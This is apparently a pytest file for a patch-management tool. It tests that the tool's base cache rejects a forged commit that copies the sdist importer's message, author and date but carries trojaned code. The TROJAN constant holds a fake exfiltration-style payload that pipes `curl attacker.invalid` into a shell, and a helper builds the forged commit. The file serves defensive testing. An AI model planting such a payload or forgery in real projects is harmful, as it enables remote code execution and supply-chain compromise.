"""The cache trusts only what it derived itself (issue 19, part 2).

A hostile store's git base is fetched from a repository the attacker controls.
Its commit may carry exactly the message the sdist importer writes for a real
release (`Import demo 1.1 from demo-1.1.tar.gz`, `sha256 <the real hash>`), the
importer's author and date, and trojaned content. Before this change the cache
found sdist imports by that message, in the same repository the fetch went
into: the attacker's commit became "demo 1.1" for a later honest `rebase --onto
1.1`, and `check` accepted a base.toml naming it.

Now an import is found only under its import key (`refs/patchtool/sdist/<sha256>`,
written by the importer after it built the commit from those bytes), fetches go
into a repository of their own per git source, and every sdist base is proven
(key, or a fresh import compared) before any command uses it. A cache an older
patchtool filled is re-proven, not trusted.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from helpers import (
    DEMO_FILES,
    SDIST_MTIME,
    SyntheticUpstream,
    add_git_base,
    check_records,
    commit_all,
    error_lines,
    git,
    make_sdist,
    write_base,
    write_git_base,
)

from patchtool.core.errors import IntegrityError
from patchtool.core.gitops import tool_identity
from patchtool.sources.sdist import import_message, import_sdist
from patchtool.store.model import PypiSource

pytestmark = pytest.mark.cli_in_process

TROJAN = b"import os; os.system('curl attacker.invalid | sh')  # trojan\n"
VENDOR_FILE = "vendor.txt"


def import_key(version: str, sha256: str, filename: str = "demo-1.1.tar.gz") -> str:
    """The ref the importer records an import of demo under (its layout, pinned)."""
    message = import_message("demo", version, PypiSource(filename, sha256)).encode()
    return f"refs/patchtool/sdist/{sha256}/{hashlib.sha256(message).hexdigest()[:32]}"


def demo_11_files() -> dict[str, bytes | tuple[str, str]]:
    return {**DEMO_FILES, "demo/__init__.py": b"VERSION = '1.1'\n"}


@dataclass
class Release:
    """The real demo 1.1 sdist (outside PATCHTOOL_SDIST_PATH: only --sdist names it)
    and the commit a fresh cache imports it as."""

    sdist: Path
    sha256: str
    commit: str


@pytest.fixture
def release(upstream: SyntheticUpstream, tmp_path: Path) -> Release:
    folder = tmp_path / "release"
    folder.mkdir()
    sdist = make_sdist(
        folder / "demo-1.1.tar.gz", "demo-1.1", demo_11_files(), modes={"tools/run.sh": 0o755}
    )
    sha = hashlib.sha256(sdist.read_bytes()).hexdigest()
    fresh = tmp_path / "fresh-cache-1.1.git"
    git(tmp_path, "init", "--quiet", "--bare", str(fresh))
    commit = import_sdist(sdist, fresh, "demo", "1.1", PypiSource(sdist.name, sha))
    return Release(sdist, sha, commit)


@pytest.fixture
def world(upstream: SyntheticUpstream) -> SyntheticUpstream:
    """demo 1.0 with one patch (a new file, which applies to every base here)."""
    assert upstream.run("unpatch").code == 0
    (upstream.tree / VENDOR_FILE).write_text("devA\n")
    commit_all(upstream.tree, "Add the vendor file")
    exported = upstream.run("patch")
    assert exported.code == 0, exported.output
    return upstream


def trojan_origin(origin: Path, release: Release, fresh_cache: Path) -> str:
    """A git repository whose commit is what the importer writes for demo 1.1 (its
    message with the real sha256, its author, committer and date) but with a
    trojaned demo/core.py. Its refs also copy the names the importer's key and
    base refs take in the cache. Returns that commit."""
    git(origin.parent, "init", "--quiet", str(origin))
    git(origin, "fetch", "--quiet", str(fresh_cache), release.commit)
    git(origin, "checkout", "--quiet", "--detach", release.commit)
    core = origin / "demo" / "core.py"
    core.write_bytes(core.read_bytes() + TROJAN)
    git(origin, "add", "demo/core.py")
    tree = git(origin, "write-tree").strip()
    message = import_message("demo", "1.1", PypiSource("demo-1.1.tar.gz", release.sha256))
    completed = subprocess.run(
        ["git", "commit-tree", tree],
        cwd=origin,
        input=message.encode(),
        capture_output=True,
        env={**os.environ, **tool_identity(f"{SDIST_MTIME} +0000")},
        check=True,
    )
    trojan = completed.stdout.decode().strip()
    for ref in (
        "refs/heads/main",
        import_key("1.1", release.sha256),
        f"refs/patchtool/bases/{trojan}",
        f"refs/patchtool/bases/{release.commit}",
    ):
        git(origin, "update-ref", ref, trojan)
    # The same commit object as the real import's, but for its tree.
    real, forged = (
        git(origin, "cat-file", "commit", c).splitlines()[1:] for c in (release.commit, trojan)
    )
    assert forged == real
    return trojan


def hostile_store(world: SyntheticUpstream, name: str) -> SyntheticUpstream:
    """A pull request's copy of the store, checked by CI with the shared cache."""
    copy = world.root / name
    shutil.copytree(world.store, copy)
    return replace(world, store=copy, build=world.root / f"{name}-build")


def fetch_trojan(world: SyntheticUpstream, release: Release) -> tuple[SyntheticUpstream, str]:
    """The hostile store's git base, checked first: its commit is fetched into the cache."""
    hostile = hostile_store(world, "hostile")
    trojan = trojan_origin(world.root / "attacker", release, world.root / "fresh-cache-1.1.git")
    write_git_base(hostile, str(world.root / "attacker"), trojan, version="1.1")
    fetched = hostile.run("check", "--commit-id", "git-base")
    assert fetched.code == 0, fetched.output
    return hostile, trojan


def cache_root() -> Path:
    return Path(os.environ["PATCHTOOL_CACHE_DIR"]).resolve()


def sdist_repository() -> Path:
    """demo's sdist repository; the same path in the layout of older patchtools."""
    return cache_root() / "repos" / "demo.git"


def has_object(repository: Path, oid: str) -> bool:
    completed = subprocess.run(
        ["git", "cat-file", "-e", oid], cwd=repository, capture_output=True, check=False
    )
    return completed.returncode == 0


def failed(stdout: str) -> dict[tuple[str, str], list[str]]:
    records: list[dict[str, Any]] = check_records(stdout)
    return {(r["base"], r["check"]): r["details"] for r in records if not r["ok"]}


def mismatch(base_toml: Path, real: str, recorded: str) -> str:
    return (
        f"{base_toml}: the sdist demo-1.1.tar.gz imports as commit {real}, but base.toml "
        f"records {recorded}"
    )


MISMATCH_HINT = (
    "hint: The sdist matched its sha256, so base.toml's commit is wrong or was written by "
    "an incompatible patchtool; fix the commit line."
)


# --------------------------------------------------------------------------- the attack


def test_a_fetched_commit_with_the_importers_message_never_becomes_the_release(
    world: SyntheticUpstream, release: Release
) -> None:
    hostile, trojan = fetch_trojan(world, release)

    rebased = world.run("rebase", "--onto", "1.1", "--sdist", str(release.sdist))
    assert rebased.code == 0, rebased.output
    folder = world.store / "devA" / "demo-1.1"
    assert (folder / "base.toml").read_text() == (
        f'project = "demo"\nversion = "1.1"\ncommit = "{release.commit}"\n\n[source]\n'
        f'type = "pypi"\nfilename = "demo-1.1.tar.gz"\nsha256 = "{release.sha256}"\n'
    )
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == release.commit
    assert TROJAN not in (world.tree / "demo" / "core.py").read_bytes()
    # Nothing of the attacker's reached the build tree or the sdist repository.
    assert not has_object(world.tree, trojan)
    assert not has_object(sdist_repository(), trojan)
    checked = world.cli("check", "--device-type", "devA")
    assert checked.code == 0, checked.output

    # The hostile store checked again, and every later command: the release stays real.
    assert hostile.run("check", "--commit-id", "git-base").code == 0
    assert world.run("unpatch", "--commit-id", "1.1", "--force").code == 0
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == release.commit
    assert world.cli("check", "--device-type", "devA").code == 0


def test_a_pypi_base_naming_the_fetched_commit_fails_the_source_check(
    world: SyntheticUpstream, release: Release
) -> None:
    hostile, trojan = fetch_trojan(world, release)
    # The pull request also adds demo 1.1 as a release: the real sha256, the attacker's commit.
    base_toml = hostile.store / "devA" / "demo-1.1" / "base.toml"
    write_base(base_toml.parent, "demo", "1.1", trojan, release.sha256)
    (base_toml.parent / "series").write_text("")
    extra = ("--sdist", str(release.sdist))

    checked = hostile.run("check", "--json", *extra)
    assert checked.code == 6, checked.output
    assert failed(checked.stdout) == {
        ("demo-1.1", "source"): [mismatch(base_toml, release.commit, trojan)],
        ("demo-1.1", "safety"): ["not run: the base is not available"],
        ("demo-1.1", "apply"): ["not run: the base is not available"],
        ("demo-1.1", "export"): ["not run: the base is not available"],
    }
    # The cache now holds the real import's key: proven from the key, the same answer.
    again = hostile.run("check", "--json", "--commit-id", "demo-1.1", *extra)
    assert again.code == 6
    assert failed(again.stdout)[("demo-1.1", "source")] == [
        mismatch(base_toml, release.commit, trojan)
    ]
    offline = hostile.run("check", "--json", "--offline", "--commit-id", "demo-1.1")
    assert offline.code == 6
    assert failed(offline.stdout)[("demo-1.1", "source")] == [
        mismatch(base_toml, release.commit, trojan)
    ]
    unpatched = hostile.run("unpatch", "--commit-id", "demo-1.1", *extra)
    assert unpatched.code == 6
    assert error_lines(unpatched) == [
        f"error: {mismatch(base_toml, release.commit, trojan)}",
        MISMATCH_HINT,
    ]
    assert not (hostile.build / "devA" / "demo").exists()


# --------------------------------------------------------------------------- variants


def test_an_old_cache_poisoned_before_the_upgrade_is_proven_again(
    world: SyntheticUpstream, release: Release
) -> None:
    """The layout an older patchtool left after checking a hostile store: one
    `demo.git` with the imports (no import keys) and the attacker's fetched commit
    under a base ref, and a victim store whose base.toml already names it."""
    repository = sdist_repository()
    hostile_origin = world.root / "attacker"
    trojan = trojan_origin(hostile_origin, release, world.root / "fresh-cache-1.1.git")
    for ref in git(
        repository, "for-each-ref", "--format=%(refname)", "refs/patchtool/sdist"
    ).split():
        git(repository, "update-ref", "-d", ref)
    git(repository, "fetch", "--quiet", str(hostile_origin), trojan)
    git(repository, "update-ref", f"refs/patchtool/bases/{trojan}", trojan)
    # No --sdist, no PATCHTOOL_SDIST_PATH, an index that cannot be reached: the
    # sdist in <cache>/sdists/ is all there is.
    alone = {
        "PATCHTOOL_SDIST_PATH": "",
        "PIP_INDEX_URL": "http://127.0.0.1:9/simple/",
        "PIP_EXTRA_INDEX_URL": "",
        "PIP_FIND_LINKS": "",
    }

    unpatched = world.run("unpatch", "--force", env=alone)
    assert unpatched.code == 0, unpatched.output
    assert "importing demo-1.0.tar.gz into the cache" in unpatched.stderr
    key = git(repository, "rev-parse", import_key("1.0", world.sha256, "demo-1.0.tar.gz")).strip()
    assert key == world.commit
    warm = world.run("unpatch", "--force", env=alone)
    assert warm.code == 0 and "importing" not in warm.stderr  # the key serves from now on

    rebased = world.run("rebase", "--onto", "1.1", "--sdist", str(release.sdist))
    assert rebased.code == 0, rebased.output
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == release.commit

    # A store the old patchtool already wrote with the attacker's commit is refused.
    victim = hostile_store(world, "victim")
    base_toml = victim.store / "devA" / "demo-1.1" / "base.toml"
    write_base(base_toml.parent, "demo", "1.1", trojan, release.sha256)
    checked = victim.run("check", "--json", "--offline", "--commit-id", "demo-1.1")
    assert checked.code == 6, checked.output
    assert failed(checked.stdout)[("demo-1.1", "source")] == [
        mismatch(base_toml, release.commit, trojan)
    ]


def test_the_importer_records_no_key_for_bytes_that_are_not_the_release(
    upstream: SyntheticUpstream, release: Release, tmp_path: Path
) -> None:
    """A caller that hands import_sdist another file than the release it names gets
    an error, and the cache gets no key that would make the wrong commit the release."""
    repository = tmp_path / "cache.git"
    git(tmp_path, "init", "--quiet", "--bare", str(repository))
    claimed = PypiSource("demo-1.1.tar.gz", release.sha256)
    with pytest.raises(IntegrityError) as raised:
        import_sdist(upstream.sdist, repository, "demo", "1.1", claimed)
    assert raised.value.message == (
        f"{upstream.sdist}: sha256 {upstream.sha256} differs from {release.sha256}, the "
        "release it was imported as"
    )
    assert git(repository, "for-each-ref", "refs/patchtool") == ""
    assert import_sdist(release.sdist, repository, "demo", "1.1", claimed) == release.commit
    refs = git(repository, "for-each-ref", "--format=%(refname) %(objectname)", "refs/patchtool")
    assert refs.splitlines() == [
        f"refs/patchtool/bases/{release.commit} {release.commit}",
        f"{import_key('1.1', release.sha256)} {release.commit}",
    ]


def test_the_release_imported_under_another_version_label_leaves_the_release_alone(
    world: SyntheticUpstream, release: Release
) -> None:
    """The same bytes under another label are another commit (the label is in its
    message), so an import key by sha256 alone would let a store that imports the
    real sdist as `1.1-evil` decide which commit `1.1` is on that machine. (This
    passes on older patchtools too: it guards the key's design.)"""
    hostile = hostile_store(world, "hostile")
    folder = hostile.store / "devA" / "demo-1.1-evil"
    scratch = world.root / "attacker.git"
    git(world.root, "init", "--quiet", "--bare", str(scratch))
    claimed = PypiSource("demo-1.1.tar.gz", release.sha256)
    relabelled = import_sdist(release.sdist, scratch, "demo", "1.1-evil", claimed)
    assert relabelled != release.commit
    write_base(folder, "demo", "1.1-evil", relabelled, release.sha256, "demo-1.1.tar.gz")
    (folder / "series").write_text("")
    checked = hostile.run("check", "--commit-id", "demo-1.1-evil", "--sdist", str(release.sdist))
    assert checked.code == 0, checked.output

    rebased = world.run("rebase", "--onto", "1.1", "--sdist", str(release.sdist))
    assert rebased.code == 0, rebased.output
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == release.commit
    assert world.run("check").code == 0
    assert hostile.run("check", "--commit-id", "demo-1.1-evil").code == 0


# --------------------------------------------------------------------------- git bases


def test_an_already_fetched_commit_gets_its_base_ref_and_passes_check(
    upstream: SyntheticUpstream, tmp_path: Path
) -> None:
    """Issue 22, defect 3: a second device imported onto a commit that was already in
    the cache (here it came with devA's fetch of its child) got no base ref, and
    check failed for it ("the cache holds no base ref")."""
    origin = tmp_path / "origin"
    first = add_git_base(upstream, origin)
    (origin / "main.py").write_text("print('upstream, later')\n")
    git(origin, "commit", "--quiet", "-am", "later")
    later = git(origin, "rev-parse", "HEAD").strip()
    (upstream.store / "devA" / "git-base" / "base.toml").write_text(
        f'project = "vllm"\nversion = "2.0.dev1"\ncommit = "{later}"\n\n'
        f'[source]\ntype = "git"\nurl = "{origin}"\n'
    )  # the same project as devB's base below (--project)
    assert upstream.run("check", "--commit-id", "git-base").code == 0  # fetches later and first
    change = tmp_path / "note.diff"
    change.write_text("--- /dev/null\n+++ b/NOTE\n@@ -0,0 +1 @@\n+devB\n")
    imported = upstream.cli(
        "import", "-d", "devB", "--create", "--display-name", "Device B", "--vendor", "Example",
        "--onto", f"git+{origin}@{first}", "--base-version", "2.0.dev0", "--project", "vllm",
        "--author", "B <b@example.invalid>", "-m", "Add the note", "--dir", str(upstream.build),
        str(change),
    )  # fmt: skip
    assert imported.code == 0, imported.output
    checked = upstream.cli("check", "--device-type", "devB")
    assert checked.code == 0, checked.output
    assert "ok    devB  vllm-2.0.dev0  source" in checked.stdout
    assert git(upstream.build / "devB" / "vllm", "rev-parse", "patchtool/base").strip() == first


def test_a_rebase_from_a_release_onto_a_git_base_and_back(
    world: SyntheticUpstream, release: Release, tmp_path: Path
) -> None:
    """Each base comes from the repository that holds it; the git base's fetch never
    reaches the sdist repository."""
    origin = tmp_path / "origin"
    git(tmp_path, "init", "--quiet", str(origin))
    git(origin, "fetch", "--quiet", str(world.root / "scratch.git"), world.commit)
    git(origin, "checkout", "--quiet", "-b", "main", world.commit)
    (origin / "README.md").write_text("# demo, from git\n")
    commit_all(origin, "demo from git")
    commit = git(origin, "rev-parse", "HEAD").strip()

    onto_git = world.run("rebase", "--onto", f"git+{origin}@{commit}", "--base-version", "2.0.dev0")
    assert onto_git.code == 0, onto_git.output
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == commit
    assert (world.tree / VENDOR_FILE).read_text() == "devA\n"
    assert not has_object(sdist_repository(), commit)

    back = world.run(
        "rebase", "--commit-id", "2.0.dev0", "--onto", "1.1", "--sdist", str(release.sdist)
    )
    assert back.code == 0, back.output
    assert git(world.tree, "rev-parse", "patchtool/base").strip() == release.commit
    assert (world.tree / VENDOR_FILE).read_text() == "devA\n"
    assert not has_object(sdist_repository(), commit)
    checked = world.cli("check", "--device-type", "devA")
    assert checked.code == 0, checked.output


def test_each_git_source_has_a_repository_of_its_own(tmp_path: Path) -> None:
    """One repository per source, the same for every spelling of it, never the
    project's sdist repository."""
    from patchtool.sources.cache import BaseCache
    from patchtool.store.model import BaseRef, GitSource, GitUrl

    cache = BaseCache(tmp_path / "cache")
    origin = tmp_path / "origin"
    origin.mkdir()
    folder = tmp_path / "store" / "devA" / "demo-2.0"
    folder.mkdir(parents=True)
    (tmp_path / "link").symlink_to(origin)

    def holder(url: str, project: str = "demo") -> Path:
        source = GitSource(GitUrl(url))
        return cache.repository_for(BaseRef("devA", "b", project, "2.0", "a" * 40, source, folder))

    local = holder(str(origin))
    assert local.parent == cache.root / "sources" and local.suffix == ".git"
    assert holder("../../../origin") == holder(str(tmp_path / "link")) == local
    assert holder(str(origin), project="other") == local  # a source, not a project
    remote = holder("https://example.invalid/demo.git")
    assert holder("https://user:secret@example.invalid/demo.git/") == holder(
        "https://user@example.invalid/demo.git"
    )
    assert holder("https://user@example.invalid/demo.git") != remote  # another account's view
    assert len({local, remote, holder("https://example.invalid/other.git")}) == 3
    release = BaseRef("devA", "demo-1.0", "demo", "1.0", "a" * 40,
                      PypiSource("demo-1.0.tar.gz", "0" * 64), folder)  # fmt: skip
    assert cache.repository_for(release) == cache.root / "repos" / "demo.git"
